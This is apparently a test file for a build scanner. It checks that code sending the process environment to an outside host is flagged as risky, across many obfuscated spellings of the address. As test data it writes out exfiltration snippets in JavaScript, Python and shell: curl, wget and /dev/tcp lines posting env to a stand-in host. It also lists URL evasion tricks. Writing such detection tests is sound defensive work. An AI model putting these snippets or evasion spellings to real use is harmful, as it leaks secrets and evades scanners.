/** Every spelling of an address that a runtime reads, in every call that sends: what a build sends there is seen. */
import { describe, expect, it } from 'vitest';
import { capabilitiesBeyond } from '../../format/index/capabilities.ts';
import { NO_CAPABILITIES, deriveCapabilities } from '../capabilities.ts';
import { riskOf } from '../risk.ts';
import { allRules } from '../rules/all.ts';
import { scan } from '../scan.ts';
import { testBuild } from '../test-build.ts';

const NAME = 'c.other-metrics.com';
const STARTS = [
  ['https://', 'http://', 'https:/', 'https:', 'https:///', 'https:////', 'HtTPs://'],
  ['https:\\\\', 'https:/\\', 'https:\\/', 'https:\\', ' https://', '\t\u0001https://'],
  ['ht\ntps://', 'https:\r//', 'https://\t', 'https://user@', 'https://user:word@'],
  ['https://github.com@', 'https://registry.npmjs.org:443@', 'https://github.com%2F@'],
  ['https://a@b@', 'https://@', 'https://:@', 'https://127.0.0.1@', 'https://localhost:80@'],
].flat();
const ENDS = [
  ['', '/', ':/x', ':443/x', ':00443/x', './x', '?x', '#x', '\\x', '\\@github.com/x', '\u0001'],
  ['/@github.com/x', '/x \n', '/\t\r\n'],
].flat();
const HOSTS = [
  ['c\u3002other-metrics\u3002com', 'c\uff0eother-metrics.com', 'c\uff61other-metrics.com'],
  ['%63.other-metrics.com', 'c%2eother-metrics%2Ecom', 'C.OTHER-Metrics.Com'],
  ['\uff43.other-metrics.com', '\u24d2.other-metrics.com', '\u{1d41c}.other-metrics.com'],
  ['c.oth\u00ader-metrics.com', 'c.oth\u200ber-metrics.com', 'c.oth\ter-metrics\n.com'],
  ['10.other-metrics.com', 'fdn-metrics.com', 'fc00.other-metrics.com', '127.0.0.1.nip.io'],
  ['localhost.other-metrics.com', '192.168.0.1.other-metrics.com', 'fe80-metrics.com'],
  ['45.9.148.3', '0x2d.9.148.3', '0x2D099403', '755602435', '055.011.0224.03', '45.9.37891'],
  ['45.627715', '%34%35.9.148.3', '\uff14\uff15.9.148.3', '45\u30029.148.3', '45.9.148.3.'],
  ['[2001:470::1]', '[2001:0470:0:0:0:0:0:1]', '[::ffff:45.9.148.3]', '[2600::1]:8080'],
  ['$a.other-metrics.com', 'a_b.other-metrics.com', '{a}.other-metrics.com'],
].flat();
const SPELLINGS = [
  ...STARTS.map((start) => `${start}${NAME}/x`),
  ...ENDS.map((end) => `https://${NAME}${end}`),
  ...HOSTS.map((host) => `https://${host}/x`),
];

const BODY = "{ method: 'POST', body: JSON.stringify(process.env) }";
const ENVIRONMENT = 'import os, requests, urllib.request as r\n';
/** A file that sends the environment; the argument is a literal of its language. */
const SENDERS: Readonly<Record<string, readonly [string, (literal: string) => string]>> = {
  fetch: ['a.ts', (to) => `void fetch(${to}, ${BODY});`],
  'fetch of a URL': ['a.ts', (to) => `void fetch(new URL(${to}, 'https://github.com'), ${BODY});`],
  'fetch of a Request': ['a.ts', (to) => `void fetch(new Request(${to}, ${BODY}));`],
  'http.request': [
    'a.cjs',
    (to) => `require('https').request(${to}, { method: 'POST' }).end(JSON.stringify(process.env));`,
  ],
  'undici.request': ['a.cjs', (to) => `require('undici').request(${to}, ${BODY});`],
  'undici.request with an origin': [
    'a.cjs',
    (to) => `require('undici').request({ origin: ${to}, path: '/x', ...${BODY} });`,
  ],
  'axios.post': ['a.cjs', (to) => `require('axios').post(${to}, process.env);`],
  axios: [
    'a.cjs',
    (to) => `require('axios')({ url: ${to}, method: 'post', data: { ...process.env } });`,
  ],
  'axios with a base': [
    'a.cjs',
    (to) => `require('axios').create({ baseURL: ${to} }).post('/y', process.env);`,
  ],
  'requests.post': ['a.py', (to) => `${ENVIRONMENT}requests.post(${to}, json=dict(os.environ))`],
  urlopen: ['a.py', (to) => `${ENVIRONMENT}r.urlopen(${to}, data=str(os.environ).encode())`],
  Request: [
    'a.py',
    (to) => `${ENVIRONMENT}r.urlopen(r.Request(${to}, data=str(os.environ).encode()))`,
  ],
};

function judge(path: string, code: string): { risk: string; gained: readonly string[] } {
  const build = testBuild({ [path]: code });
  const before = { ...NO_CAPABILITIES, hosts: ['*'] };
  const { hosts } = capabilitiesBeyond(deriveCapabilities(build), before);
  return { risk: riskOf(scan(build, allRules)), gained: hosts };
}

describe('an address that sends the environment', () => {
  const hostOf = (text: string): string => new URL(text).hostname.replace(/\.$/, '');

  it('is spelled in at least 40 ways', () => {
    expect(new Set(SPELLINGS).size).toBeGreaterThan(40);
  });

  it.each(Object.keys(SENDERS))('is seen in %s, and is new where any host was', (name) => {
    const [path, codeOf] = SENDERS[name]!;
    const missed = SPELLINGS.filter((text) => {
      const { risk, gained } = judge(path, codeOf(JSON.stringify(text)));
      return risk === 'ok' || !gained.includes(hostOf(text));
    });
    expect(missed).toEqual([]);
  });

  it.each(['hostname', 'host'])('is seen in the option "%s"', (option) => {
    const missed = SPELLINGS.filter((text) => {
      const options = JSON.stringify({ [option]: hostOf(text).replaceAll(/[[\]]/g, '') });
      const path = `path: '/?' + JSON.stringify(process.env)`;
      return [
        `{ ...${options}, ${path} }`,
        `'https://github.com', { ...${options}, ${path} }`,
      ].some((args) => {
        const { risk, gained } = judge('a.cjs', `require('https').get(${args});`);
        return risk === 'ok' || !gained.includes(hostOf(text));
      });
    });
    expect(missed).toEqual([]);
  });

  it.each([
    `curl -d "$(env)" 'TO'`,
    `env | curl -d @- --url='TO'`,
    `wget --post-data="$(env)" 'TO'`,
  ])('is seen in %s, in a file and in code', (command) => {
    const missed = SPELLINGS.filter((text) => {
      const line = command.replace('TO', () => text);
      const { risk, gained } = judge(
        'a.cjs',
        `require('child_process').exec(${JSON.stringify(line)});`,
      );
      const isNew = gained.includes(hostOf(text)) || text.includes('$a');
      return risk === 'ok' || !isNew || judge('a.sh', `${line}\n`).risk === 'ok';
    });
    expect(missed).toEqual([]);
  });

  it.each(['env > TO', 'printenv >TO', 'cat <(env) > TO'])('is seen in %s', (command) => {
    const missed = SPELLINGS.map((text) => hostOf(text).replaceAll(/[[\]]/g, '')).filter((host) => {
      const line = command.replace('TO', () => `/dev/tcp/${host}/443`);
      return judge('a.sh', `${line}\n`).risk === 'ok';
    });
    expect(missed).toEqual([]);
  });

  it.each(['https://[zz]/x', 'http://a b.com/x', 'https://a^b.com', 'https://1.2.3.256/'])(
    'is a reason to look when nothing can read %j',
    (text) => {
      const { risk, gained } = judge('a.js', `fetch(${JSON.stringify(text)});`);
      expect({ risk, gained }).toEqual({ risk: 'caution', gained: [text] });
    },
  );
});
